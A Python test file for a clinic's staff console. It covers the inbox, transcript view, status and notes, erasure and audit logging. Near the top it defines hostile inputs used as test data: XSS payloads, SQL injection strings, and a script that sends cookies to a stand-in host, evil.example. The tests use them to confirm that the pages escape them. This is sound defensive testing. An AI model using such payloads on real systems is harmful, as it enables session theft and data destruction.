"""What staff see: the inbox, a conversation, status/assignee/notes, erasure and the audit log."""

from __future__ import annotations

import html
import re

from markupsafe import escape

from handoff.store import audit_entries, count_new, get_handoff, list_handoffs, status_history
from handoff.transcripts import transcript
from tests.console.support import add_conversation

HOSTILE_NAME = '<script>alert("name")</script> Robert\'); DROP TABLE handoffs;--'
HOSTILE_SUMMARY = '<img src=x onerror=alert(1)> wants a booking " onmouseover="alert(2)'
HOSTILE_CONTACT = '"><svg onload=alert(3)>@example.com'
HOSTILE_TOPIC = "'; DELETE FROM staff_users; --"
HOSTILE_MESSAGE = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
HOSTILE_NOTE = '<img src=x onerror="alert(4)"> called back; 1 OR 1=1; DROP TABLE handoff_notes;'
HOSTILE_ASSIGNEE = "<b onclick=alert(5)>Jo</b>"
# Markup that would be live if it reached the page unescaped (escaped text like "onerror=" is inert).
RAW_MARKUP = ("<script", "<img", "<svg", "<b onclick", "<b>", "<i>", '" onmouseover="', '"><svg')


def title_of(page: str) -> str:
    return html.unescape(re.search(r"<title>(.*?)</title>", page, re.S).group(1))


def test_inbox_lists_requests_newest_first_with_everything_staff_need(signed_in, make_handoff, handoffs):
    older = make_handoff(
        name="Ann Older",
        reason="person",
        channel="socketio",
        contact_kind="email",
        contact="ann@example.com",
        preferred_times="any weekday after 5pm",
        preferred_times_normalised="Mon-Fri 17:00-",
        summary="Asked to talk to a person about headaches.",
    )
    newer = make_handoff(name="Bo Newer", urgent=True, reason="no_answer", summary="Asked about prices; none approved.")
    page = signed_in.get("/")
    assert page.status_code == 200
    text = page.text
    assert text.index("Bo Newer") < text.index("Ann Older")  # newest first
    card = text[text.index(older.reference) : text.index("</li>", text.index(older.reference))]
    for shown in (
        "Asked for a person",
        "email: ann@example.com",
        "any weekday after 5pm",
        "Mon-Fri 17:00-",
        "Asked to talk to a person about headaches.",
        "socketio",
        "nobody yet",
        ">New<",
    ):
        assert shown in card, shown
    urgent_card = text[text.index(newer.reference) : text.index("</li>", text.index(newer.reference))]
    assert "Urgent – red flag" in urgent_card and "No approved answer" in urgent_card
    assert "Urgent" not in card
    assert title_of(text) == f"({count_new(handoffs)}) Inbox – Clinic staff console"


def test_inbox_filters_by_status(signed_in, make_handoff, api):
    contacted = make_handoff(name="Cy Contacted")
    untouched = make_handoff(name="Di Untouched")
    assert api.patch(f"/api/handoffs/{contacted.id}", json={"status": "contacted"}).status_code == 200
    page = signed_in.get("/?status=contacted").text
    assert contacted.reference in page and untouched.reference not in page
    assert 'href="/?status=contacted" aria-current="page"' in page
    assert untouched.reference not in signed_in.get("/?status=closed").text
    assert untouched.reference in signed_in.get("/?status=new").text
    bad = signed_in.get("/?status=<script>")
    assert bad.status_code == 400 and "<script>" not in bad.text


def test_new_requests_are_counted_in_the_title_on_every_page(signed_in, make_handoff, handoffs):
    made = make_handoff()
    expected = f"({count_new(handoffs)}) "
    for path in ("/", f"/handoffs/{made.id}", "/audit", "/?status=booked"):
        assert title_of(signed_in.get(path).text).startswith(expected), path


def test_conversation_view_shows_the_whole_transcript_notes_and_history(
    signed_in, make_handoff, trackers, handoffs, staff
):
    made = make_handoff()
    add_conversation(
        trackers,
        made.sender_id,
        [("visitor", "One more thing: I can also do Fridays")],
        buttons=["Yes, book it", "No thanks"],
    )  # said after the handoff
    page = signed_in.get(f"/handoffs/{made.id}")
    assert page.status_code == 200
    text = page.text
    lines = re.findall(
        r'<li class="line (visitor|assistant)">.*?<span class="speaker">(\w+)</span>\s*'
        r'<time datetime="([^"]+)">[^<]+</time></p>\s*<p class="text">(.*?)</p>',
        text,
        re.S,
    )
    said = [(speaker, html.unescape(words)) for _cls, speaker, _time, words in lines]
    assert said[:4] == [
        ("Visitor", "Hello, I'd like to book Tui Na for my back"),
        ("Assistant", "I can pass a booking request to the clinic. What is your name?"),
        ("Visitor", "Sam Taylor"),
        ("Assistant", "Thank you. Your reference is on its way."),
    ]
    assert ("Visitor", "One more thing: I can also do Fridays") in said
    assert ("Assistant", "Yes, book it / No thanks") in said
    assert all(re.match(r"\d{4}-\d\d-\d\dT", stamp) for _c, _s, stamp, _w in lines)
    assert "Tuesday mornings" in text and "+44 7700 900123" in text and "back pain" in text
    viewed = [(e.actor, e.action, e.target) for e in audit_entries(handoffs, 50)]
    assert (staff[0], "viewed", made.reference) in viewed  # every view is audited


def test_status_change_assignee_and_note_are_recorded_with_their_author(signed_in, make_handoff, handoffs, staff):
    made = make_handoff()
    csrf = signed_in.csrf(f"/handoffs/{made.id}")
    response = signed_in.post(
        f"/handoffs/{made.id}/status", data={"csrf": csrf, "status": "contacted", "assignee": "Jo"}
    )
    assert response.status_code == 303 and response.headers["Location"] == f"/handoffs/{made.id}"
    assert (
        signed_in.post(f"/handoffs/{made.id}/notes", data={"csrf": csrf, "note": "Left a voicemail."}).status_code
        == 303
    )
    after = get_handoff(handoffs, made.id)
    assert (after.status, after.assignee) == ("contacted", "Jo")
    [change] = status_history(handoffs, made.id)
    assert (change.author, change.from_status, change.to_status) == (staff[0], "new", "contacted")
    page = signed_in.get(f"/handoffs/{made.id}").text
    assert re.search(r"New → Contacted, by <span class=\"author\">reception</span>", page)
    assert "Left a voicemail." in page and '<span class="author">reception</span>' in page
    # Clearing the assignee works too (a blank field means nobody).
    signed_in.post(f"/handoffs/{made.id}/status", data={"csrf": csrf, "status": "contacted", "assignee": ""})
    assert get_handoff(handoffs, made.id).assignee is None
    audit = signed_in.get("/audit").text
    assert "status changed" in audit and "new -&gt; contacted" in audit and "note added" in audit


def test_bad_form_input_is_refused_with_a_message(signed_in, make_handoff, handoffs):
    made = make_handoff()
    csrf = signed_in.csrf(f"/handoffs/{made.id}")
    for data in ({"status": "archived"}, {"status": "new", "assignee": "x" * 101}):
        response = signed_in.post(f"/handoffs/{made.id}/status", data={"csrf": csrf, **data})
        assert response.status_code == 400 and 'role="alert"' in response.text
    for note in ("", "   ", "x" * 5001):
        assert signed_in.post(f"/handoffs/{made.id}/notes", data={"csrf": csrf, "note": note}).status_code == 400
    assert signed_in.post(f"/handoffs/{made.id}/notes", data={"csrf": csrf, "note": "a\x00b"}).status_code == 400
    huge = signed_in.post(f"/handoffs/{made.id}/notes", data={"csrf": csrf, "note": "x" * 100_000})
    assert huge.status_code == 413
    for path in ("/handoffs/0", "/handoffs/99999999999999999999", "/handoffs/2147483647", "/handoffs/abc"):
        assert signed_in.get(path).status_code == 404, path
    assert get_handoff(handoffs, made.id).status == "new"


def test_html_and_sql_from_visitors_and_staff_are_shown_inert(signed_in, make_handoff, handoffs, trackers, api):
    made = make_handoff(
        turns=[
            ("visitor", HOSTILE_MESSAGE),
            ("assistant", "<b>bold</b> & <i>friends</i>"),
            ("visitor", "Robert'); DROP TABLE events;--"),
        ],
        name=HOSTILE_NAME,
        summary=HOSTILE_SUMMARY,
        contact_kind="email",
        contact=HOSTILE_CONTACT,
        topic=HOSTILE_TOPIC,
        preferred_times="<iframe src=//evil.example>",
        preferred_times_normalised="</dd><script>x()</script>",
    )
    csrf = signed_in.csrf(f"/handoffs/{made.id}")
    signed_in.post(f"/handoffs/{made.id}/notes", data={"csrf": csrf, "note": HOSTILE_NOTE})
    signed_in.post(f"/handoffs/{made.id}/status", data={"csrf": csrf, "status": "new", "assignee": HOSTILE_ASSIGNEE})
    pages = {
        path: signed_in.get(path).text for path in ("/", f"/handoffs/{made.id}", f"/handoffs/{made.id}/erase", "/audit")
    }
    for path, page in pages.items():
        for markup in RAW_MARKUP + ("<iframe", "</dd><script"):
            assert markup not in page, (path, markup)
    conversation = pages[f"/handoffs/{made.id}"]
    for shown in (
        HOSTILE_NAME,
        HOSTILE_SUMMARY,
        HOSTILE_CONTACT,
        HOSTILE_TOPIC,
        HOSTILE_MESSAGE,
        HOSTILE_NOTE,
        HOSTILE_ASSIGNEE,
        "<b>bold</b> & <i>friends</i>",
        "Robert'); DROP TABLE events;--",
    ):
        assert str(escape(shown)) in conversation, shown  # escaped exactly as Jinja2 does
    # The SQL was data, not commands: every table is still there and the text is stored verbatim.
    assert get_handoff(handoffs, made.id).name == HOSTILE_NAME
    assert len(list_handoffs(handoffs)) >= 1
    assert [line.text for line in transcript(trackers, made.sender_id)][0] == HOSTILE_MESSAGE
    detail = api.get(f"/api/handoffs/{made.id}").json()
    assert detail["handoff"]["name"] == HOSTILE_NAME and detail["notes"][0]["text"] == HOSTILE_NOTE.strip()


def test_erase_asks_first_then_removes_the_request_and_the_conversation(
    signed_in, make_handoff, handoffs, trackers, staff
):
    made = make_handoff(name="Eve Erase", contact="+447700900444")
    second = make_handoff(
        name="Eve Erase", reason="person", sender_id=made.sender_id, turns=(), contact="eve@example.org"
    )
    bystander = make_handoff(name="Not Erased", contact="+447700900999")
    confirm = signed_in.get(f"/handoffs/{made.id}/erase")
    assert confirm.status_code == 200
    assert made.reference in confirm.text and second.reference in confirm.text and "4 messages" in confirm.text
    assert get_handoff(handoffs, made.id) is not None  # asking is not erasing
    response = signed_in.post(f"/handoffs/{made.id}/erase", data={"csrf": csrf_of_page(confirm.text)})
    assert (
        response.status_code == 200
        and made.reference in response.text
        and "6 stored conversation events" in response.text
    )
    assert get_handoff(handoffs, made.id) is None and get_handoff(handoffs, second.id) is None
    assert transcript(trackers, made.sender_id) == []
    assert signed_in.get(f"/handoffs/{made.id}").status_code == 404
    assert "Eve Erase" not in signed_in.get("/").text
    assert get_handoff(handoffs, bystander.id) is not None and transcript(trackers, bystander.sender_id)
    erased = [(e.actor, e.target) for e in audit_entries(handoffs, 100) if e.action == "erased"]
    assert (staff[0], made.reference) in erased and (staff[0], second.reference) in erased


def test_erase_covers_every_conversation_of_the_same_person(signed_in, make_handoff, handoffs, trackers):
    """The same phone number on the website and on WhatsApp is one person: one erase removes both."""
    website = make_handoff(name="Wyn Twice", contact="+447700900555")
    whatsapp = make_handoff(name="Wyn", channel="whatsapp", sender_id="whatsapp:+447700900555", contact="+447700900555")
    other = make_handoff(name="Not Erased", contact="+447700900556")
    confirm = signed_in.get(f"/handoffs/{website.id}/erase")
    assert website.reference in confirm.text and whatsapp.reference in confirm.text
    assert other.reference not in confirm.text
    response = signed_in.post(f"/handoffs/{website.id}/erase", data={"csrf": csrf_of_page(confirm.text)})
    assert response.status_code == 200 and whatsapp.reference in response.text
    assert get_handoff(handoffs, website.id) is None and get_handoff(handoffs, whatsapp.id) is None
    assert transcript(trackers, website.sender_id) == [] and transcript(trackers, whatsapp.sender_id) == []
    assert get_handoff(handoffs, other.id) is not None and transcript(trackers, other.sender_id)


def csrf_of_page(page: str) -> str:
    return re.findall(r'name="csrf" value="([^"]+)"', page)[-1]
